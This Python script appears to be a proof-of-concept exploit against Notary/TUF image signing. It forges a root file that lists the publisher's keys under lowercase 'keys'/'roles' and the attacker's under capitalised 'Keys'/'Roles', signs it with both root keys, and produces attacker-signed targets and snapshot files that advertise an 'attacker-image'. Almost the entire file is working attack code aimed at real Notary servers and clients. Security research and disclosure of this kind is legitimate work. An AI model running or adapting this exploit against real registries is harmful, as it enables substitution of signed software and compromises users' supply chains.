"""Make a Notary key-substitution root and targets, to be served by a real Notary
server and read by the stock Notary client.

Usage: notary_shadow.py OUTDIR GUN TIMESTAMP_KEY_JSON

The root lists the publisher's root certificate, targets and snapshot keys under
"keys" and "roles"; after them, "Keys" and "Roles" list the attacker's (the
server's timestamp key in both). It is signed by the publisher's root key (the
room, shown the real keys, signs) and by the attacker's. targets.json and
snapshot.json are signed by the attacker's keys only; targets.json lists one
target, "attacker-image". Writes root.json, targets.json, snapshot.json to OUTDIR.
(The server would make a snapshot of its own re-serialisation of the root, whose
hash does not match the file it serves; the attacker's snapshot covers the file.)
"""

import base64
import datetime
import hashlib
import json
import os
import sys

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
from securesystemslib.formats import encode_canonical

EXPIRES = "2036-01-01T00:00:00Z"


def canonical(value) -> bytes:
    return encode_canonical(value).encode()


def key_id(obj) -> str:
    return hashlib.sha256(canonical(obj)).hexdigest()


def sign(private, signed) -> str:
    r, s = decode_dss_signature(private.sign(canonical(signed), ec.ECDSA(hashes.SHA256())))
    return base64.b64encode(r.to_bytes(32, "big") + s.to_bytes(32, "big")).decode()


def go_form(envelope) -> bytes:
    """The bytes the Notary server re-serialises a document to (it hashes those
    for the timestamp): the canonical signed part, compact signatures."""
    sigs = json.dumps(envelope["signatures"], separators=(",", ":"))
    return b'{"signed":' + canonical(envelope["signed"]) + b',"signatures":' + sigs.encode() + b"}"


def root_key(gun):
    private = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, gun)])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(private.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(hours=1))
        .not_valid_after(now + datetime.timedelta(days=3650))
        .add_extension(x509.KeyUsage(True, False, True, False, False, False, False, False, False), critical=True)
        .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.CODE_SIGNING]), critical=False)
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .sign(private, hashes.SHA256())
    )
    pem = cert.public_bytes(serialization.Encoding.PEM)
    obj = {"keytype": "ecdsa-x509", "keyval": {"private": None, "public": base64.b64encode(pem).decode()}}
    return private, obj


def online_key():
    private = ec.generate_private_key(ec.SECP256R1())
    der = private.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    return private, {"keytype": "ecdsa", "keyval": {"private": None, "public": base64.b64encode(der).decode()}}


def main(out, gun, ts_json):
    ts = json.loads(ts_json)
    ts = {"keytype": ts["keytype"], "keyval": {"private": None, "public": ts["keyval"]["public"]}}
    real_root, real_root_obj = root_key(gun)
    _, real_targets_obj = online_key()
    _, real_snapshot_obj = online_key()
    evil_root, evil_root_obj = root_key(gun)
    evil_targets, evil_targets_obj = online_key()
    evil_snapshot, evil_snapshot_obj = online_key()

    def keys_and_roles(root_obj, targets_obj, snapshot_obj):
        keys = {key_id(o): o for o in (root_obj, targets_obj, snapshot_obj, ts)}
        roles = {
            "root": {"keyids": [key_id(root_obj)], "threshold": 1},
            "targets": {"keyids": [key_id(targets_obj)], "threshold": 1},
            "snapshot": {"keyids": [key_id(snapshot_obj)], "threshold": 1},
            "timestamp": {"keyids": [key_id(ts)], "threshold": 1},
        }
        return keys, roles

    keys, roles = keys_and_roles(real_root_obj, real_targets_obj, real_snapshot_obj)
    shadow_keys, shadow_roles = keys_and_roles(evil_root_obj, evil_targets_obj, evil_snapshot_obj)
    signed = {
        "_type": "Root",
        "consistent_snapshot": False,
        "expires": EXPIRES,
        "keys": keys,
        "roles": roles,
        "version": 1,
        "Keys": shadow_keys,
        "Roles": shadow_roles,
    }
    root = {
        "signed": signed,
        "signatures": [
            {"keyid": key_id(real_root_obj), "method": "ecdsa", "sig": sign(real_root, signed)},
            {"keyid": key_id(evil_root_obj), "method": "ecdsa", "sig": sign(evil_root, signed)},
        ],
    }
    payload = b"the attacker's image\n"
    targets_signed = {
        "_type": "Targets",
        "delegations": {"keys": {}, "roles": []},
        "expires": EXPIRES,
        "targets": {
            "attacker-image": {
                "hashes": {"sha256": base64.b64encode(hashlib.sha256(payload).digest()).decode()},
                "length": len(payload),
            }
        },
        "version": 1,
    }
    targets = {
        "signed": targets_signed,
        "signatures": [
            {"keyid": key_id(evil_targets_obj), "method": "ecdsa", "sig": sign(evil_targets, targets_signed)}
        ],
    }
    files = {"root": json.dumps(root).encode(), "targets": go_form(targets)}
    snapshot_signed = {
        "_type": "Snapshot",
        "expires": EXPIRES,
        "meta": {
            role: {
                "hashes": {
                    "sha256": base64.b64encode(hashlib.sha256(raw).digest()).decode(),
                    "sha512": base64.b64encode(hashlib.sha512(raw).digest()).decode(),
                },
                "length": len(raw),
            }
            for role, raw in files.items()
        },
        "version": 1,
    }
    files["snapshot"] = go_form({
        "signed": snapshot_signed,
        "signatures": [
            {"keyid": key_id(evil_snapshot_obj), "method": "ecdsa", "sig": sign(evil_snapshot, snapshot_signed)}
        ],
    })
    for role, raw in files.items():
        with open(os.path.join(out, f"{role}.json"), "wb") as fh:
            fh.write(raw)


if __name__ == "__main__":
    main(*sys.argv[1:])
